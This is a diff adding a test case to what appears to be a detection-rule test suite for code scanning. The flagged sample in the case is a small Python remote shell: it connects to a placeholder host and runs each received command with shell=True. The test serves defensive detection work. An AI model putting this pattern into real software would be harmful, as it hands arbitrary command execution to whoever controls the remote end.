@@ -447,6 +447,16 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "    for c in r.iter_content(32768):\n        f.write(c)\n"
         "subprocess.run(['unzip', 'data.zip'])\n",
     ),
+    (
+        reverse_shell_rule,
+        "agent.py",
+        "import json, socket, subprocess\nsock = socket.create_connection((HOST, 2245))\n"
+        "for line in sock.makefile():\n    msg = json.loads(line)\n"
+        "    out = subprocess.run(msg['cmd'], shell=True, capture_output=True)\n",
+        # a client that connects and runs a fixed command of its own
+        "import socket, subprocess\nsock = socket.create_connection((HOST, 443))\n"
+        "config = {'cmd': 'git'}\nsubprocess.run(['git', 'status'])\n",
+    ),
 ]
 
 
